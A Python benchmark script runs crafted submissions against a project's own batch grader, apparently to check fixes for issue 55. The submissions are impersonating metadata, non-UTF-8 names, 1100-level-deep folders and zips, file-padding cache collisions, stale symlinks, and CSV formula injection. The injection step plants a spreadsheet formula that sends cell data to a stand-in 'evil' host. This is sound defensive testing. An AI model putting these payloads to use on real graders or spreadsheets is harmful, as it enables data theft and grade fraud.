"""The class-batch attacks of issue 55, each built from `python -m grading --example` copies and run as a batch.

    python bench/grading_batch_attacks.py                          # this checkout; JSON lines to stdout
    python bench/grading_batch_attacks.py --repo /tmp/before       # the same attacks on another checkout
    python bench/grading_batch_attacks.py --only hijack,deep_folder --out runs/attacks.jsonl

For each attack: a class of honest students (alice correct, bob without position embeddings) with and without the
attacker, graded with `--batch --checks embed --jobs 1`; it reports whether the batch finished (exit code, a CSV),
whether every honest row equals the one of the batch without the attacker (the `seconds` column aside), and the
attacker's row (score, error, notes). Rerun attacks (`stale_*`) grade once, change the submission, grade again and
compare the rerun's rows with a fresh batch of the changed class.
"""
from __future__ import annotations

import argparse
import csv
import json
import os
import shutil
import stat
import subprocess
import sys
import tempfile
import time
import zipfile
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
from bench.machine import print_machine_header  # noqa: E402
from bench.results import Recorder  # noqa: E402
from grading.example import BUGS, write_submission  # noqa: E402

NO_POSITIONS = BUGS["no_positions"][1]
PAD = 20000  # files at the top of a folder: the scan limit of the record key before issue 55


def honest(subs: Path) -> list[str]:
    write_submission(subs / "alice")
    write_submission(subs / "bob", **NO_POSITIONS)
    return ["alice", "bob"]


def pad(folder: Path, n: int = PAD) -> None:
    """n one-byte files named 00000.txt, 00001.txt, ... in `folder`."""
    folder.mkdir(parents=True, exist_ok=True)
    names(folder, [f"{i:05d}.txt" for i in range(n)])


def names(folder: Path, files: list[str], data: bytes = b"x") -> None:
    """Each of `files` in `folder`, holding `data`: hard links of one file, which the grader reads as it reads any
    file (it looks at names, kinds and bytes, never at inode numbers or link counts); 20,000 of them take half a
    second to make where 20,000 files take 3 to 7 s (an ext4 disk of this project's 2-core machines)."""
    first = folder / files[0]
    first.write_bytes(data)
    for name in files[1:]:
        os.link(first, folder / name)


def deep(folder: Path, levels: int = 1100) -> None:
    for _ in range(levels):  # os.makedirs recurses: 1100 levels is past Python's recursion limit
        folder = folder / "d"
        folder.mkdir()


def run_batch(repo: Path, batch: Path, out: Path, *extra) -> dict:
    cmd = [sys.executable, "-m", "grading", "--batch", str(batch), "--csv", str(out), "--checks", "embed",
           "--jobs", "1", *extra]
    start = time.monotonic()
    proc = subprocess.run(cmd, cwd=repo, capture_output=True, text=True, errors="replace", timeout=900)
    rows = None
    if out.is_file():
        with open(out, newline="", encoding="utf-8", errors="replace") as f:
            rows = list(csv.DictReader(f))
    return {"rc": proc.returncode, "rows": rows, "seconds": round(time.monotonic() - start, 1),
            "stderr": proc.stderr.strip().splitlines()[-3:], "stdout": proc.stdout.strip().splitlines()[-1:]}


def by_name(rows) -> dict:
    return {r["submission"]: {k: v for k, v in r.items() if k != "seconds"} for r in rows or []}


def compare(with_attacker: dict, without: dict, names: list[str], attacker: str | None) -> dict:
    got, want = by_name(with_attacker["rows"]), by_name(without["rows"])
    out = {"finished": with_attacker["rc"] == 0 and with_attacker["rows"] is not None, "rc": with_attacker["rc"],
           "rows": sorted(got), "honest_equal": all(got.get(n) == want.get(n) and n in want for n in names),
           "honest": {n: (got.get(n) or {}).get("score") for n in names},
           "baseline": {n: (want.get(n) or {}).get("score") for n in names},
           "stderr": with_attacker["stderr"], "stdout": with_attacker["stdout"]}
    if attacker is not None:
        row = next((r for k, r in got.items() if k.startswith(attacker) or attacker in k), None)
        out["attacker"] = {k: row.get(k) for k in ("submission", "names", "sids", "score", "error", "notes")} \
            if row else None
    return out


# ---- the attacks ---------------------------------------------------------------------------------------------------

def hijack(tmp: Path, repo: Path) -> dict:
    """A student's folder holds submission_metadata.yml and folders named like an export's."""
    clean, subs = tmp / "clean", tmp / "subs"
    names = honest(clean)
    shutil.copytree(clean, subs)
    evil = subs / "mallory"
    write_submission(evil / "submission_1")
    write_submission(evil / "submission_2", **NO_POSITIONS)
    (evil / "submission_metadata.yml").write_text(
        "submission_1:\n  :submitters:\n  - :name: Mallory\n    :sid: '666'\n    :email: m@evil\n"
        "submission_2:\n  :submitters:\n  - :name: Alice\n    :sid: '1001'\n    :email: alice@example.edu\n")
    return compare(run_batch(repo, subs, tmp / "a.csv"), run_batch(repo, clean, tmp / "b.csv"), names, "mallory")


def _with(tmp: Path, repo: Path, build) -> dict:
    clean, subs = tmp / "clean", tmp / "subs"
    names = honest(clean)
    shutil.copytree(clean, subs)
    build(subs / "mallory")
    return compare(run_batch(repo, subs, tmp / "a.csv"), run_batch(repo, clean, tmp / "b.csv"), names, "mallory")


def non_utf8_name(tmp: Path, repo: Path) -> dict:
    def build(evil):
        write_submission(evil)
        with open(os.path.join(os.fsencode(evil), b"notes-\xff.txt"), "wb") as f:
            f.write(b"x")
    return _with(tmp, repo, build)


def non_utf8_folder(tmp: Path, repo: Path) -> dict:
    """The submission's folder name itself is not UTF-8."""
    clean, subs = tmp / "clean", tmp / "subs"
    names = honest(clean)
    shutil.copytree(clean, subs)
    write_submission(Path(os.fsdecode(os.fsencode(subs) + b"/mallory-\xff")))
    return compare(run_batch(repo, subs, tmp / "a.csv"), run_batch(repo, clean, tmp / "b.csv"), names, "mallory")


def deep_folder(tmp: Path, repo: Path) -> dict:
    def build(evil):
        write_submission(evil)
        deep(evil)
    return _with(tmp, repo, build)


def _export(folder: Path, students: dict) -> None:
    meta = []
    for i, (name, build) in enumerate(students.items()):
        build(folder / f"submission_{i + 1}")
        meta.append(f"submission_{i + 1}:\n  :submitters:\n  - :name: {name}\n    :sid: '{1000 + i}'\n"
                    f"    :email: {name.lower()}@example.edu\n")
    (folder / "submission_metadata.yml").write_text("".join(meta))


def deep_in_zip(tmp: Path, repo: Path) -> dict:
    """An export zip whose attacker's folder is 1100 levels deep."""
    def mallory(f):
        write_submission(f)
    honest_students = {"Alice": lambda f: write_submission(f), "Bob": lambda f: write_submission(f, **NO_POSITIONS)}
    _export(tmp / "clean" / "export", {**honest_students, "Mallory": mallory})
    (tmp / "clean" / "export" / "submission_3" / "deep.txt").write_text("x")
    clean_zip = shutil.make_archive(str(tmp / "clean_export"), "zip", tmp / "clean", "export")
    evil_zip = tmp / "evil_export.zip"
    shutil.copy(clean_zip, evil_zip)
    with zipfile.ZipFile(evil_zip, "a") as z:
        z.writestr("export/submission_3/" + "d/" * 1100 + "deep.txt", "x")
    got, want = run_batch(repo, evil_zip, tmp / "a.csv"), run_batch(repo, Path(clean_zip), tmp / "b.csv")
    return compare(got, want, ["submission_1", "submission_2"], "submission_3")


def padding_freeload(tmp: Path, repo: Path) -> dict:
    """Carol pads her correct submission with 20,000 files; Mallory holds the same padding and no model code."""
    clean, subs = tmp / "clean", tmp / "subs"
    names = honest(clean) + ["carol"]
    write_submission(clean / "carol")
    pad(clean / "carol")
    shutil.copytree(clean, subs, symlinks=True)
    pad(subs / "mallory", PAD + 1)  # one more than carol's: the old key's walk then stops where hers did
    return compare(run_batch(repo, subs, tmp / "a.csv"), run_batch(repo, clean, tmp / "b.csv"), names, "mallory")


def _rerun(tmp: Path, repo: Path, build, change) -> dict:
    """Grade, change carol's submission, grade again with the same store; compare with a fresh batch."""
    subs = tmp / "subs"
    names = honest(subs) + ["carol"]
    build(subs / "carol")
    first = run_batch(repo, subs, tmp / "a.csv")
    change(subs / "carol")
    again = run_batch(repo, subs, tmp / "a.csv")
    fresh = run_batch(repo, subs, tmp / "fresh.csv", "--reports", str(tmp / "fresh-reports"))
    out = compare(again, fresh, names, None)
    out["first"] = {r["submission"]: r["score"] for r in first["rows"] or []}
    out["rerun_carol"] = (by_name(again["rows"]).get("carol") or {}).get("score")
    out["fresh_carol"] = (by_name(fresh["rows"]).get("carol") or {}).get("score")
    return out


def stale_padding(tmp: Path, repo: Path) -> dict:
    def build(c):
        write_submission(c)
        pad(c)

    def change(c):
        write_submission(c, **NO_POSITIONS)
    return _rerun(tmp, repo, build, change)


def stale_link(tmp: Path, repo: Path) -> dict:
    def build(c):  # no padding needed: the old key never hashed a link to a folder
        write_submission(c)
        shutil.move(c / "models", c / "v1")
        write_submission(c / "v2tmp", **NO_POSITIONS)
        shutil.move(c / "v2tmp" / "models", c / "v2")
        shutil.rmtree(c / "v2tmp")
        (c / "models").symlink_to("v1")

    def change(c):
        (c / "models").unlink()
        (c / "models").symlink_to("v2")
    return _rerun(tmp, repo, build, change)


def csv_injection(tmp: Path, repo: Path) -> dict:
    """Names, ids and emails that a spreadsheet runs as formulas; and who may read the CSV and the records."""
    students = {"Alice": lambda f: write_submission(f), "Bob": lambda f: write_submission(f, **NO_POSITIONS)}
    _export(tmp / "clean", students)
    _export(tmp / "evil", {**students, "Mallory": lambda f: write_submission(f)})
    meta = (tmp / "evil" / "submission_metadata.yml").read_text()
    meta = meta.replace(":name: Mallory", ":name: '=HYPERLINK(\"http://evil/?\"&A1,\"x\")'")
    meta = meta.replace("'1002'", "'+1002'").replace("mallory@example.edu", "'@SUM(1+1)'")
    (tmp / "evil" / "submission_metadata.yml").write_text(meta)
    got, want = run_batch(repo, tmp / "evil", tmp / "a.csv"), run_batch(repo, tmp / "clean", tmp / "b.csv")
    out = compare(got, want, ["submission_1", "submission_2"], "submission_3")
    cells = [c for r in got["rows"] or [] for c in r.values()]
    out["formula_cells"] = [c for c in cells if isinstance(c, str) and c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    modes = {}
    for p in [tmp / "a.csv", tmp / "a-reports", *sorted((tmp / "a-reports").glob("*"))[:3]]:
        if p.exists():
            modes[p.name] = oct(stat.S_IMODE(p.stat().st_mode))
    out["modes"] = modes
    out["honest_equal"] = None  # sids changed on purpose: compare by eye (the scores)
    return out


ATTACKS = {f.__name__: f for f in (hijack, non_utf8_name, non_utf8_folder, deep_folder, deep_in_zip,
                                   padding_freeload, stale_padding, stale_link, csv_injection)}


def main() -> None:
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--repo", default=str(Path(__file__).resolve().parents[1]), help="the checkout whose grader runs")
    p.add_argument("--only", default="", help="comma-separated attacks (default all): " + ",".join(ATTACKS))
    p.add_argument("--out", help="append one JSON line per attack here")
    args = p.parse_args()
    print_machine_header()
    recorder = Recorder("grading_batch_attacks")
    repo = Path(args.repo).resolve()
    commit = subprocess.run(["git", "rev-parse", "--short", "HEAD"], cwd=repo, capture_output=True,
                            text=True).stdout.strip()
    dirty = bool(subprocess.run(["git", "status", "--porcelain", "grading"], cwd=repo, capture_output=True,
                                text=True).stdout.strip())
    for name in [n for n in args.only.split(",") if n] or list(ATTACKS):
        tmp = tempfile.mkdtemp(prefix="attack-")
        try:
            result = {"attack": name, "commit": commit + ("+dirty" if dirty else ""), "repo": str(repo),
                      "date": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime()), **ATTACKS[name](Path(tmp), repo)}
        finally:
            subprocess.run(["rm", "-rf", tmp], check=False)  # shutil.rmtree recurses: 1100 levels are too deep
        line = json.dumps(result, default=str)
        print(line, flush=True)
        if args.out:
            with open(args.out, "a") as f:
                f.write(line + "\n")
        record(recorder, result)
    recorder.write()


def record(recorder: Recorder, result: dict) -> None:
    """One record per attack in bench/results/grading_batch_attacks.jsonl: whether the batch finished and whether
    every honest row equals the batch without the attacker (1 yes, 0 no; omitted where compared by eye)."""
    values = {"finished": float(bool(result.get("finished")))}
    if result.get("honest_equal") is not None:
        values["honest rows equal"] = float(bool(result["honest_equal"]))
    attacker = {k: result[k] for k in ("attacker", "rc") if k in result}
    recorder.add(result["attack"], values, "1 = yes", graded_commit=result["commit"],
                 notes=json.dumps(attacker, default=str)[:500])


if __name__ == "__main__":
    main()
